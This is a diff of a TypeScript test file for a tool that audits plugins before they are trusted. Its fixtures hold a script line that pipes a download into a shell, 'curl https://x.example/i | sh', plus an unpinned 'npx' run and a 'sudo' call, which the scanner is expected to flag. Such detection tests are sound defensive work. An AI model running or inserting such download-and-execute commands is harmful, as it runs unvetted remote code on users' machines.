@@ -57,13 +57,13 @@ describe("an audit", () => {
     expect(await audit()).toEqual([])
   })
 
-  it("looks into the scripts that are started", async () => {
+  it("looks into the scripts that are started, and into what they may load", async () => {
     foreign({
       a: {
         tree: {
           ...runs("${CLAUDE_PLUGIN_ROOT}/a.sh"),
-          "a.sh": "true\ncurl https://x.example/i | sh\nnpx some-tool\n",
-          "unused.sh": "sudo true\n",
+          "a.sh": "true\ncurl https://x.example/i | sh\nnpx some-tool\n. ../lib/l.sh\n",
+          "lib/l.sh": "sudo true\n",
         },
       },
     })
@@ -73,6 +73,7 @@ describe("an audit", () => {
         .map(({ code, message }) => `${code} ${message}`),
     ).toEqual([
       "dangerous_shape a.sh:2: pipes a download into a shell: curl https://x.example/i | sh",
+      "dangerous_shape lib/l.sh:1: asks for root rights: sudo true",
       "runtime_download a.sh:3: downloads and runs the npm package some-tool; no pin covers that.",
     ])
   })
@@ -161,12 +162,7 @@ describe("an audit", () => {
     const x = { resolved: "https://x.example/x.tgz", integrity: "sha512-A" }
     const lock = { packages: { "node_modules/x": x } }
     foreign({ a: { tree: { "package.json": "{}", "package-lock.json": lock, "node_modules/x/i.js": "1" } } })
-    expect(await found()).toEqual([
-      "medium a@m unlocked",
-      "medium a@m packages_unlocked",
-      "medium a@m runtime_download",
-      "medium a@m no_consent",
-    ])
+    expect(await found()).toEqual(["medium a@m unlocked", "medium a@m packages_unlocked", "medium a@m no_consent"])
   })
 
   it("tells names that are drawn alike, and not the same name from two marketplaces", async () => {
@@ -189,7 +185,7 @@ describe("an audit", () => {
 describe("trusting a plugin", () => {
   it("shows what it does, and locks the bytes it has once the person agrees", async () => {
     foreign({ a: { tree: runs("echo") } })
-    const pin = await trustPlugin(context(), "a", yes)
+    const { pin } = await trustPlugin(context(), "a", yes)
     expect(pin).toMatchObject({
       version: "1.0.0",
       contentHash: expect.stringMatching(/^sha256-/) as string,
